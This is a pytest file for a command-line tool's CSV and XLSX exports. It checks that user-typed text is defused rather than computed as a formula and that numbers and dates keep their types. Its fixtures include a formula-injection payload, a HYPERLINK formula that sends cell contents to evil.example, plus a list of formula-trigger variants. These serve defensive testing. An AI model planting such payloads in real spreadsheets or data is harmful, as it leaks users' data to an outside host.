"""Lists taken away as CSV and XLSX: nothing that somebody typed is a formula, numbers and days stay what they are."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest
import typer
from openpyxl import load_workbook
from typer.testing import CliRunner

from battlemap.cli.main import app
from graph.access.keys import make_key
from graph.db.client import Graph
from graph.db.transactions import run as run_statement
from graph.server.server import Server
from graph.words import BadInput
from ingest.load.pipeline import ingest
from ingest.workbooks.exports import write_csv, write_workbook
from tests.conftest import environment
from tests.test_cases import customers
from tests.test_cli import battlemap

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"明细")'
COMPUTED = [
    FORMULA,
    "+86 25 8888",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\x00=1+1",
    "\ufeff=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
]
HARMLESS = ["珩光医院", "a=b", "3-4", "", "–", "x@y.example"]
LISTS = {
    "alerts list", "alerts deliveries", "signals review", "contracts list", "keys list", "rules list", "rules test",
    "quarantine list", "source list", "matches list", "fit partners", "fit customers", "fit why", "influence show",
    "influence what-if", "influence paths", "influence compare", "influence runs",
}  # fmt: skip
NO_LISTS = {
    "alerts show", "alerts status", "contracts show", "contracts diff", "rules show", "keys make", "source revert",
    "quarantine replay", "fit compare", "influence coverage", "ingest", "score", "evaluate", "db start", "db status",
    "db shell-url",
}  # fmt: skip


def cells(path: Path) -> list[tuple[Any, ...]]:
    return list(load_workbook(path).worksheets[0].iter_rows())


def table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_text_that_a_spreadsheet_would_compute_is_defused_in_csv():
    out = io.StringIO()
    write_csv([[text] for text in COMPUTED + HARMLESS], out)
    read = [row[0] if row else "" for row in csv.reader(io.StringIO(out.getvalue(), newline=""))]
    assert [text for text in read[: len(COMPUTED)] if not text.startswith("'")] == []
    assert read[len(COMPUTED) :] == HARMLESS
    assert "\x00" not in out.getvalue()


def test_text_is_text_in_a_workbook(tmp_path: Path):
    path = tmp_path / "x.xlsx"
    assert (
        write_workbook(path, [("x", [[text] for text in [*COMPUTED, "\x0b\ufffe\ud800甲"]])])
        == len(COMPUTED) + 1
    )
    found = [row[0] for row in cells(path)]
    assert {cell.data_type for cell in found} == {"s"}
    assert all(cell.quotePrefix for cell in found[:-1])
    assert (found[0].value, found[1].value, found[-1].value) == (FORMULA, "+86 25 8888", "甲")


def test_numbers_and_days_stay_what_they_are(tmp_path: Path):
    at = dt.datetime(2026, 11, 20, 9, 30)
    zoned = dt.datetime(2026, 11, 20, 1, 30, tzinfo=dt.UTC)
    row = [
        -5,
        -0.25,
        dt.date(2026, 11, 20),
        at,
        zoned,
        None,
        12_345_678_901_234_567,
        float("inf"),
        dt.date(1850, 1, 2),
        "汉" * 40_000,
    ]
    path, out = tmp_path / "x.xlsx", io.StringIO()
    write_workbook(path, [("x", [row])])
    (found,) = cells(path)
    assert [cell.data_type for cell in found] == ["n", "n", "d", "d", "d", "n", "s", "s", "s", "s"]
    assert [cell.value for cell in found[:6]] == [-5, -0.25, dt.datetime(2026, 11, 20), at, at, None]
    assert [cell.value for cell in found[6:9]] == ["12345678901234567", "inf", "1850-01-02"]
    write_csv([row[:4]], out)
    assert out.getvalue() == "-5,-0.25,2026-11-20,2026-11-20 09:30:00\n"


def test_a_workbook_that_cannot_be_written_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    for path in (tmp_path, tmp_path / "nowhere" / "x.xlsx"):
        with pytest.raises(BadInput, match="cannot be written"):
            write_workbook(path, [("x", [["a"]])])
    monkeypatch.setattr("ingest.workbooks.exports.MOST_ROWS", 3)
    with pytest.raises(BadInput, match="3 rows"):
        write_workbook(tmp_path / "x.xlsx", [("x", ([n] for n in range(4)))])


def test_every_list_of_the_command_line_can_be_taken_away():
    """A command with --json is a list with all three forms, or is named as none."""
    found = {}
    for name, command in commands(typer.main.get_command(app)):
        options = {option for p in command.params for option in p.opts}
        if "--json" in options:
            found[name] = {"--csv", "--xlsx"} <= options
    assert {name for name, all_three in found.items() if all_three} == LISTS
    assert {name for name, all_three in found.items() if not all_three} == NO_LISTS


def commands(group: Any, before: str = "") -> list[tuple[str, Any]]:
    made = []
    for name, command in group.commands.items():
        made += (
            commands(command, f"{before}{name} ")
            if hasattr(command, "commands")
            else [(before + name, command)]
        )
    return made


@pytest.fixture
def run(empty: Graph, scratch_server: Server, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    for name, value in (
        environment(scratch_server.connection) | {"BATTLEMAP_HOME": str(tmp_path / "home")}
    ).items():
        monkeypatch.setenv(name, value)

    def told(*words: object, code: int = 0) -> Any:
        done = CliRunner().invoke(app, [str(word) for word in words])
        assert done.exit_code == code, done.output + repr(done.exception)
        return done

    return told


def test_lists_from_the_command_line(run: Any, empty: Graph, scratch_server: Server, tmp_path: Path):
    make_key(empty, FORMULA, "sales", "-li", days=30)
    make_key(empty, "b", "admin", "li", days=30)
    heading, first, second = table(run("keys", "list", "--csv").stdout)
    assert heading[:3] == ["id", "name", "role"]
    assert (first[1], first[9], second[1]) == (f"'{FORMULA}", "'-li", "b")
    path = tmp_path / "keys.xlsx"
    assert "2 rows" in run("keys", "list", "--xlsx", path).output
    _, row, _ = cells(path)
    assert (row[1].data_type, row[1].value) == ("s", FORMULA)
    assert row[7].is_date and row[7].value.year >= 2026
    env = environment(scratch_server.connection) | {"BATTLEMAP_LANG": "zh"}
    assert table(battlemap("keys", "list", "--csv", env=env).stdout)[0][:3] == ["编号", "使用者", "角色"]
    for words, said in (
        (["--csv", "--json"], "choose one"), (["--xlsx", tmp_path / "nowhere" / "x.xlsx"], "cannot be written"),
        (["--xlsx", "--csv"], "ends in .xlsx"),
    ):  # fmt: skip
        assert said in run("keys", "list", *words, code=1).output


def test_lists_of_a_world(run: Any, empty: Graph, tmp_path: Path):
    """Set-aside rows, sources, pairs, alerts and rules: each list has its heading and its rows."""
    (tmp_path / "mappings").mkdir()
    (tmp_path / "mappings" / "crm.yaml").write_text(
        'version: 1\nsource: crm\nfeeds:\n  - file: "*.csv"\n    sync: full\n    records:\n'
        "      - {node: Customer, id: no, fields: {name: name, tier: tier}}\n", "utf-8",
    )  # fmt: skip
    (tmp_path / "a.csv").write_text("no,name,tier\nC1,江畔医院,A\nC2,=1+1,Z\n", "utf-8")
    ingest(empty, [tmp_path / "a.csv"], tmp_path / "mappings", quarantine=tmp_path / "home" / "quarantine")
    customers(empty, "C7")
    pair = {"id": "m", "a": "C1", "b": "C7", "name_a": "=1+1", "answer": "undecided", "probability": 0.5,
            "reasons_for": ["same phone", "same city"], "reasons_for_zh": ["电话相同"]}  # fmt: skip
    empty.write(lambda tx: run_statement(tx, "CREATE (m:Match) SET m = $pair", pair=pair))
    wanted = {
        ("source", "list"): 1, ("matches", "list"): 1, ("alerts", "list"): 0, ("alerts", "deliveries"): 0, ("rules", "list"): 0,
        ("contracts", "list"): 0, ("signals", "review"): 0, ("quarantine", "list"): 1, ("influence", "runs"): 0,
    }  # fmt: skip
    found = {words: table(run(*words, "--csv").stdout) for words in wanted}
    assert {words: len(rows) - 1 for words, rows in found.items()} == wanted
    told = dict(zip(*found["matches", "list"], strict=True))
    assert (told["name of one"], told["reasons for"], told["probability"]) == (
        "'=1+1",
        "same phone; same city",
        "0.5",
    )
    aside = dict(zip(*found["quarantine", "list"], strict=True))
    assert aside["file"] == "a.csv" and "tier" in aside["reasons"] and '"=1+1"' in aside["values"]
    run("source", "list", "--xlsx", tmp_path / "s.xlsx")
    heading, row = cells(tmp_path / "s.xlsx")
    loaded = [cell.value for cell in heading].index("last loaded")
    assert row[loaded].is_date and row[loaded + 1].is_date
